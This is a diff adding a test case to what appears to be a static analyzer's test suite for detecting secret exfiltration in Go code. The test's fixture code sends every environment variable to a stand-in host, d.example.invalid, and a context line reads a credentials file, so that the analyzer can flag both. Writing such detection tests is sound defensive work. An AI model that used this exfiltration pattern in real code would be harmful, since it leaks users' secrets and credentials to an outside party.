@@ -758,6 +758,24 @@ func main() {
       expect(find(es, 'send')?.carries).toContain('cloud-credentials');
     });
 
+    it('a request sent by a client the function was given (`c.Do(req)`, `t.RoundTrip(req)`) is still a send', () => {
+      const es = go(`package main
+
+import (
+\t"net/http"
+\t"os"
+\t"strings"
+)
+
+func push(c *http.Client) {
+\treq, _ := http.NewRequest("PUT", "https://d.example.invalid/e", strings.NewReader(strings.Join(os.Environ(), "&")))
+\tc.Do(req)
+}
+`);
+      expect(find(es, 'send')).toMatchObject({ host: 'd.example.invalid', line: 11 });
+      expect(flows(es, readOf('env-secrets'), untrustedSend)).toBe(true);
+    });
+
     it('a folder is one package: a function of a sibling .go file is lowered with the caller\'s argument, and its constants resolve', () => {
       const files = {
         'cmd/sync/main.go': `package main\n\nimport "os"\n\nfunc main() {\n\tb, _ := os.ReadFile("/home/u/.openclaw/credentials/whatsapp.json")\n\tpush(b)\n}\n`,
